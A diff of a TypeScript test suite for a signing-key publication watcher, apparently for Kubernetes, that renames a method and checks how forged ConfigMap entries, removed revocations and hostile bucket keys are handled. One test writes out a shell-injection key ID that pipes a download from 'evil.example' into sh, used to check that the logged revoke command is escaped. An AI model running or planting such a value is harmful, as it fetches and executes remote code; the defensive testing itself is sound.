@@ -4,7 +4,7 @@ import { generateSigningKey, type SigningKey } from '../../../sandbox/kubernetes
 import { digestOf } from '../../../src/publish/key-state.ts'
 import { startTestWatch, type TestWatch } from './test-watch.ts'
 
-const reasons = ({ status }: Awaited<ReturnType<TestWatch['look']>>) => status.alarms.map(({ code }) => code)
+const reasons = ({ status }: Awaited<ReturnType<TestWatch['runRound']>>) => status.alarms.map(({ code }) => code)
 const sorted = (...keys: { kid: string }[]) => keys.map(({ kid }) => kid).toSorted()
 
 suite('a client that may write the ConfigMap', () => {
@@ -23,7 +23,7 @@ suite('a client that may write the ConfigMap', () => {
     const watch = await startTestWatch(t)
     const attacker = await generateSigningKey()
     forge(watch, entryOf(attacker))
-    const state = await watch.look()
+    const state = await watch.runRound()
     const own = sorted(watch.sandbox.cluster.keys.current)
     assert.deepEqual(watch.published(), own)
     assert.deepEqual(reasons(state), ['RECORDED_KEY_UNKNOWN'])
@@ -32,7 +32,7 @@ suite('a client that may write the ConfigMap', () => {
       new RegExp(`^key "${attacker.kid}" is recorded in the ConfigMap, but neither`),
     )
     forge(watch, { ...watch.keyEntries(), ...entryOf(await generateSigningKey()) })
-    await watch.look(3)
+    await watch.runRound(3)
     assert.deepEqual(watch.published(), own)
   })
 
@@ -41,9 +41,9 @@ suite('a client that may write the ConfigMap', () => {
     const { keys } = watch.sandbox.cluster
     const leaked = keys.current
     keys.signWith(await keys.add())
-    await watch.look()
+    await watch.runRound()
     await watch.revoke(leaked.kid)
-    await watch.look()
+    await watch.runRound()
     const before = watch.keyEntries()
     const [name = ''] = Object.keys(before).filter((one) => one.startsWith('revoked.'))
     const removals = {
@@ -53,10 +53,10 @@ suite('a client that may write the ConfigMap', () => {
     }
     for (const [what, entries] of Object.entries(removals)) {
       forge(watch, { ...Object.fromEntries(Object.entries(before).filter(([one]) => one !== name)), ...entries })
-      const state = await watch.look()
+      const state = await watch.runRound()
       assert.deepEqual(reasons(state), ['REVOCATION_REMOVED'], what)
       assert.equal(watch.keyEntries()[name], before[name], what)
-      await watch.look(3)
+      await watch.runRound(3)
       assert.deepEqual(watch.published(), sorted(keys.current), what)
     }
     assert.match(
@@ -64,7 +64,7 @@ suite('a client that may write the ConfigMap', () => {
       new RegExp(`REVOCATION_REMOVED the revocation of key "${leaked.kid}" was removed from the ConfigMap`),
     )
     watch.sandbox.clock.advance('1 h')
-    assert.deepEqual(reasons(await watch.look()), [])
+    assert.deepEqual(reasons(await watch.runRound()), [])
   })
 
   test('nor by deleting it whole', async (t) => {
@@ -72,29 +72,29 @@ suite('a client that may write the ConfigMap', () => {
     const { keys, store } = watch.sandbox.cluster
     const leaked = keys.current
     keys.signWith(await keys.add())
-    await watch.look()
+    await watch.runRound()
     await watch.revoke(leaked.kid)
-    await watch.look()
+    await watch.runRound()
     const keyState = store.read('ConfigMap', 'pullpass-system', 'pullpass-issuer')
     assert.ok(keyState)
     store.remove(keyState)
-    assert.deepEqual(reasons(await watch.look()), ['REVOCATION_REMOVED'])
+    assert.deepEqual(reasons(await watch.runRound()), ['REVOCATION_REMOVED'])
     watch.restart()
-    await watch.look()
+    await watch.runRound()
     assert.deepEqual(watch.published(), sorted(keys.current))
   })
 
   test('fills no key state with keys that replace each other', async (t) => {
     const watch = await startTestWatch(t)
-    await watch.look()
+    await watch.runRound()
     const own = watch.keyEntries()
     for (let times = 0; times < 3; times++) {
       forge(watch, { ...own, ...entryOf(await generateSigningKey()) })
-      await watch.look()
+      await watch.runRound()
     }
-    assert.equal((await watch.look()).keyState?.keys.length, 2)
+    assert.equal((await watch.runRound()).keyState?.keys.length, 2)
     forge(watch, {})
-    assert.equal((await watch.look()).keyState?.keys.length, 1)
+    assert.equal((await watch.runRound()).keyState?.keys.length, 1)
     assert.deepEqual(Object.keys(watch.keyEntries()), Object.keys(own))
   })
 
@@ -104,7 +104,7 @@ suite('a client that may write the ConfigMap', () => {
     const entries = Array.from({ length: 50 }, (_, at) => entryOf({ ...forged, kid: `forged-${at}` }))
     forge(watch, Object.fromEntries(entries.flatMap(Object.entries<string>)))
     watch.sandbox.cluster.keys.signWith(await generateSigningKey())
-    const { status } = await watch.look()
+    const { status } = await watch.runRound()
     assert.equal(status.alarms.length, 51)
     const sentence = 'warn the publication of the issuer needs attention '
     const codes = watch.logged.flatMap((line) => (line.startsWith(sentence) ? line.split(' ')[8] : []))
@@ -116,11 +116,11 @@ suite('a client that may write the ConfigMap', () => {
     const { keys } = watch.sandbox.cluster
     const old = await watch.swapKey()
     forge(watch, { ...watch.keyEntries(), ...entryOf(old) })
-    await watch.look(5)
+    await watch.runRound(5)
     const { lastSeenAt }: { lastSeenAt: string } = JSON.parse(watch.keyEntries()[`key.${digestOf(old.kid)}`] ?? '')
     assert.ok(new Date(lastSeenAt) <= watch.context.now(), lastSeenAt)
     watch.sandbox.clock.advance('2 d')
-    await watch.look()
+    await watch.runRound()
     assert.deepEqual(watch.published(), sorted(keys.current))
   })
 
@@ -129,12 +129,12 @@ suite('a client that may write the ConfigMap', () => {
     const { keys } = watch.sandbox.cluster
     const leaked = await watch.swapKey()
     forge(watch, { ...watch.keyEntries(), [`revoked.${digestOf(leaked.kid)}`]: '{}' })
-    await watch.look()
+    await watch.runRound()
     assert.deepEqual(watch.published(), sorted(keys.current))
     const unrevoked = Object.entries(watch.keyEntries()).filter(([name]) => !name.startsWith('revoked.'))
     forge(watch, { ...Object.fromEntries(unrevoked), ...entryOf(leaked) })
     watch.restart()
-    await watch.look(3)
+    await watch.runRound(3)
     assert.deepEqual(watch.published(), sorted(keys.current))
   })
 })
@@ -142,7 +142,7 @@ suite('a client that may write the ConfigMap', () => {
 suite('a client that may write the bucket', () => {
   test('a public key whose name is a command is one word in the command that revokes it', async (t) => {
     const watch = await startTestWatch(t)
-    await watch.look()
+    await watch.runRound()
     const { publicKey } = await generateSigningKey()
     const kid = "x; curl evil.example|sh; '$(id)'\n"
     const object = watch.sandbox.gcp.store.find('example-cluster', 'openid/v1/jwks')
@@ -151,7 +151,7 @@ suite('a client that may write the bucket', () => {
       contentType: 'application/jwk-set+json',
       body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
     })
-    await watch.look(3)
+    await watch.runRound(3)
     const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
     assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and check`), line)
   })
